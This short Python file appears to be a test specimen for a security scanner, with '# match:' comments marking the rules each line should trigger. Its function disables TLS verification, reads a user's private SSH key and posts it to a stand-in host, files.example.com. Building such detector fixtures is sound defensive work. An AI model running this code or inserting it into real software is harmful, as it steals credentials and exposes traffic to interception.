raise SystemExit("specimen: not to be run")
import ssl as s
import requests as web

setattr(s, "_create_default_https_context", s._create_unverified_context)  # match: tls-verification-off


def send():
    key = open("/home/specimen/.ssh/id_rsa").read()  # match: developer-credentials
    return web.post("https://files.example.com/in", data=key, verify=False)  # match: tls-verification-off  # match: secrets-sent
